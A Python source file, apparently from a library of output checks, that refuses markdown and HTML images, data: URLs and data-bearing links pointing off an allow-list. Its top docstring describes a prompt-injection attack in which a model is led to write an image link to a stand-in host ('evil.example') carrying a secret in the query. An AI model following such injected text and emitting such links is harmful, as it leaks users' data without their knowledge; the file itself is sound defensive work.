"""Links and images that could carry data out of the conversation.

An injected prompt can make a model write ``![](https://evil.example/?q=SECRET)``:
the chat front end loads the image by itself and the data leaves without a
click. This check refuses:

- any image (markdown inline or reference-style, HTML ``img``/``srcset``/...) whose
  host is not on the allow-list;
- any ``data:`` URL, which can smuggle content in either direction;
- links off the allow-list that carry data: a query string, a fragment, or a
  long or encoded path segment (with ``links: all``, every link off the list).
"""

from __future__ import annotations

import re
from typing import Literal
from urllib.parse import urlsplit

from unwalled.contracts.checks.base import excerpt
from unwalled.contracts.checks.urls import AllowListOptions, Link, LinkCheck, \
    host_allowed

DATA_SEGMENT = re.compile(r"[A-Za-z0-9+/_=-]{24,}|%[0-9A-Fa-f]{2}.*%[0-9A-Fa-f]{2}")


class ExfiltrationOptions(AllowListOptions):
    kind: Literal["exfiltration"] = "exfiltration"
    links: Literal["with_data", "all", "none"] = "with_data"
    """Which links off the allow-list to refuse: those carrying data, all, none."""


class ExfiltrationCheck(LinkCheck):
    """Images and links that could carry data out (``allow``: domains they may
    point to)."""

    kind = "exfiltration"
    options: ExfiltrationOptions

    def problem(self, link: Link) -> str | None:
        scheme = link.scheme
        if scheme == "data":
            return (f"a data: URL in a {link.kind} can carry content in or out "
                    f"({excerpt(link.url, 40)}); remove it")
        if scheme in ("javascript", "vbscript"):
            return f"a {scheme}: URL runs code when opened ({excerpt(link.url, 40)})"
        if not scheme and not link.url.startswith("//"):
            return None  # relative: stays on the site that shows the answer
        host = link.host
        if host_allowed(host, self.allowed):
            return None
        if link.kind == "image":
            return (f"an image from {host or 'an unknown host'} would be loaded "
                    f"without a click and could send data out ({excerpt(link.url)}); "
                    "only images from allowed domains may appear")
        if self.options.links == "all" or (
                self.options.links == "with_data" and carries_data(link.url)):
            return (f"a link to {host or 'an unknown host'} carries data in its URL "
                    f"({excerpt(link.url)}) and is not on the allow-list")
        return None


def carries_data(url: str) -> bool:
    """Whether a URL has room for smuggled data: a query, fragment or odd path."""
    try:
        parts = urlsplit(url.replace("\\", "/"))
    except ValueError:
        return True
    if parts.query or parts.fragment or parts.username or parts.password:
        return True
    return any(DATA_SEGMENT.search(segment) for segment in parts.path.split("/"))


def build(options: ExfiltrationOptions) -> ExfiltrationCheck:
    return ExfiltrationCheck(options)
